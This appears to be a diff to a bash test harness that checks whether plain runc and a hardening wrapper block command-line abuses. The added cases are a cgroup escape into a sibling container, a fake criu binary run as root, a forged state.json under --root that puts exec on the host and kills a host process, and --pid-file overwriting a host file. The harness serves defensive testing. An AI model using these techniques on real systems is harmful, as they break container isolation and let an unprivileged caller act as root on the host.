@@ -53,6 +53,13 @@ STARTED+=("$C2")
 HOLD_B=$(bundle hold 'sleep 100000')
 runc run -d --preserve-fds 1 --bundle "$HOLD_B" "$C2" > /dev/null 2>&1 3< "$W/host" < /dev/null
 need "a container holding a host directory" test "$(runc state "$C2" 2>/dev/null | jq -r .status)" = running
+# and a sibling whose name starts with the first one's: its cgroup is /$C-sib
+# next to /$C (runc's own choice without linux.cgroupsPath)
+SIB=$C-sib
+STARTED+=("$SIB")
+SIB_B=$(bundle sib 'sleep 100000')
+runc run -d --bundle "$SIB_B" "$SIB" > /dev/null 2>&1 < /dev/null
+need "a sibling container" test "$(runc state "$SIB" 2>/dev/null | jq -r .status)" = running
 
 N=0
 newid() { N=$((N + 1)); ID=hr-cliattack-$$-$N; STARTED+=("$ID"); }
@@ -243,5 +250,107 @@ fd_listen() {
 fd_listen runc; ps=$STATUS pw=$WHAT
 fd_listen "$SHIM" --policy "$W/policy.json"
 row listen-fds-run "run with LISTEN_FDS=1, fd 3 a host directory" "$ps" "$STATUS" "$pw" "$WHAT"
+
+# ---- 6. exec --cgroup into a sibling container's cgroup --------------------
+# runc 1.1 joins --cgroup to the container's cgroup and checks only a
+# string prefix: from /ID, "../ID-sib" is the cgroup of the container
+# ID-sib (its devices, pids and memory limits)
+cg_sibling() {
+  local out
+  out=$("$@" exec --cgroup "../$SIB" "$C" cat /proc/self/cgroup 2>&1 < /dev/null)
+  if printf '%s' "$out" | grep -q "pids:.*/$SIB\$"; then STATUS=succeeded; else STATUS=stopped; fi
+  WHAT="$(short "$(printf '%s' "$out" | grep 'pids:')")$(said "$out")"
+}
+cg_sibling runc; ps=$STATUS pw=$WHAT
+cg_sibling "$SHIM" --policy "$W/policy.json"
+row exec-cgroup-sibling "exec --cgroup ../ID-sib (another container's cgroup)" "$ps" "$STATUS" "$pw" "$WHAT"
+
+# ---- 7. --criu: the program runc runs as root for checkpoint -----------------
+printf '#!/bin/sh\necho "ran as uid $(id -u)" > "%s/criu-ran"\nexit 1\n' "$W" > "$W/not-criu"
+chmod 0755 "$W/not-criu"
+criu_run() {
+  local out
+  rm -f "$W/criu-ran"
+  out=$("$@" --criu "$W/not-criu" checkpoint --image-path "$W/ckpt" "$C" 2>&1 < /dev/null)
+  if [ -s "$W/criu-ran" ]; then STATUS=succeeded; else STATUS=stopped; fi
+  WHAT="$(short "$(cat "$W/criu-ran" 2>/dev/null)")$(said "$out")"
+}
+criu_run runc; ps=$STATUS pw=$WHAT
+criu_run "$SHIM" --policy "$W/policy.json"
+row criu-checkpoint "--criu PROGRAM checkpoint (the caller's program run as root)" "$ps" "$STATUS" "$pw" "$WHAT"
+
+# ---- 8. exec with a --root whose state another user wrote --------------------
+# runc joins the namespaces of the init process its state names: a state
+# written by the caller (runc's own state of a container, its init pid and
+# start time changed to a host process's) puts the exec'd process on the
+# host.  The forged tree belongs to uid 65534, as a caller's own would.
+TPL=hr-cliattack-tpl-$$
+runc --root "$W/tplroot" run -d --bundle "$SLEEP_B" "$TPL" > /dev/null 2>&1 < /dev/null
+cp "$W/tplroot/$TPL/state.json" "$W/template-state.json"
+runc --root "$W/tplroot" delete -f "$TPL" > /dev/null 2>&1
+# host_sleeper : HOSTPID, a host process (stopped at exit)
+host_sleeper() {
+  sleep 100000 < /dev/null > /dev/null 2>&1 &
+  HOSTPID=$!
+  at_exit "kill $HOSTPID 2> /dev/null"
+}
+# forge DIR : DIR/$TPL/state.json, runc's state with HOSTPID as the init,
+# the whole tree uid 65534's
+forge() {
+  mkdir -p "$1/$TPL"
+  jq --argjson p "$HOSTPID" --argjson st "$(awk '{print $22}' /proc/$HOSTPID/stat)" --arg id "$TPL" \
+    '.init_process_pid = $p | .init_process_start = $st | .cgroup_paths |= with_entries(.value |= sub("/" + $id + "$"; ""))' \
+    "$W/template-state.json" > "$1/$TPL/state.json"
+  chown -R 65534 "$1"
+}
+host_sleeper
+forge "$W/forged"
+forged_root() {
+  local out
+  out=$("$@" --root "$W/forged" exec "$TPL" sh -c "cat $W/host/marker; readlink /proc/self/ns/mnt" 2>&1 < /dev/null)
+  if printf '%s' "$out" | grep -q "host-secret-$$" && printf '%s' "$out" | grep -qF "$(readlink /proc/self/ns/mnt)"; then
+    STATUS=succeeded
+  else STATUS=stopped; fi
+  WHAT="$(short "$(printf '%s' "$out" | grep -e "host-secret-$$" -e '^mnt:')")$(said "$out")"
+}
+forged_root runc; ps=$STATUS pw=$WHAT
+forged_root "$SHIM" --policy "$W/policy.json"
+row exec-forged-root "exec --root DIR, the state another user's (init: a host process)" "$ps" "$STATUS" "$pw" "$WHAT"
+
+# ---- 9. --pid-file over a host file -----------------------------------------
+# runc renames the pid file into place as root: any existing file is
+# replaced by the container's pid
+pid_file() {
+  local out
+  newid
+  echo "host-file-$$" > "$W/victim"
+  fresh "$SLEEP_B"
+  # (a file, not $(...): the detached container would hold the pipe open)
+  "$@" run -d --pid-file "$W/victim" --bundle "$SLEEP_B" "$ID" > "$W/pid-file.out" 2>&1 < /dev/null
+  out=$(cat "$W/pid-file.out")
+  if [ "$(cat "$W/victim")" != "host-file-$$" ]; then STATUS=succeeded; else STATUS=stopped; fi
+  WHAT="$(short "$(cat "$W/victim")")$(said "$out")"
+  runc delete -f "$ID" > /dev/null 2>&1
+}
+pid_file runc; ps=$STATUS pw=$WHAT
+pid_file "$SHIM" --policy "$W/policy.json"
+row pid-file-replace "run --pid-file FILE, FILE an existing host file" "$ps" "$STATUS" "$pw" "$WHAT"
+
+# ---- 10. kill with a --root whose state another user wrote -------------------
+# the same forged state (passed through: kill is not hardened): runc signals
+# the host process it names as the init
+kill_forged() { # kill_forged NAME RUNTIME...
+  local out name=$1
+  shift
+  host_sleeper
+  forge "$W/forged-kill-$name"
+  out=$("$@" --root "$W/forged-kill-$name" kill "$TPL" KILL 2>&1 < /dev/null)
+  # gone within 10 s (runc signalled it), or still there
+  if timeout 10 tail --pid="$HOSTPID" -f /dev/null; then STATUS=succeeded; else STATUS=stopped; fi
+  WHAT="host process $HOSTPID $([ $STATUS = succeeded ] && echo killed || echo alive)$(said "$out")"
+}
+kill_forged plain runc; ps=$STATUS pw=$WHAT
+kill_forged shim "$SHIM" --policy "$W/policy.json"
+row kill-forged-root "kill --root DIR, the state another user's (init: a host process)" "$ps" "$STATUS" "$pw" "$WHAT"
 
 printf '%s\n' "${ROWS[@]}" > "$OUT/cli-results.tsv"
